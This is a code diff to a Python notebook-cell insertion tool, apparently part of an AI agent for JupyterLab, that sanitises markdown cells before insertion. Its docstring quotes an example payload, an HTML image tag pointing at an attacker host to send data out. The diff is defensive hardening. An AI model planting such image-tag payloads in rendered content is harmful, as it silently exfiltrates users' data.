@@ -2,6 +2,8 @@
 
 The kernel half only: the tool saves the script under the session's scripts/ and emits a CellInsert event; the
 side panel (through the `mlintern` comm) inserts the cell, the card offers it otherwise. Nothing here executes it.
+A markdown cell is made inert first (`agent.markdown_safe`): JupyterLab renders raw HTML and images in markdown
+cells, so a planted `<img src=https://attacker/?data>` would otherwise be fetched as soon as the cell shows.
 """
 
 from __future__ import annotations
@@ -10,6 +12,7 @@ import re
 from typing import Any, Literal
 
 from ..agent import events as ev
+from ..agent.markdown_safe import inert_markdown
 from ..tools.registry import Tool, ToolContext, ToolError
 
 MAX_CELL_CHARS = 200_000
@@ -30,6 +33,8 @@ async def notebook_insert_cell(source: str, ctx: ToolContext, cell_type: Literal
     """
     if len(source) > MAX_CELL_CHARS:
         raise ToolError(f"the cell is {len(source)} characters; keep it under {MAX_CELL_CHARS}")
+    if cell_type == "markdown":
+        source = inert_markdown(source)
     session = ctx.service("session")
     path = session.save_script(_script_name(session, ctx.call_id, cell_type), source)
     ctx.emit(ev.CellInsert(call_id=ctx.call_id, source=source, cell_type=cell_type,
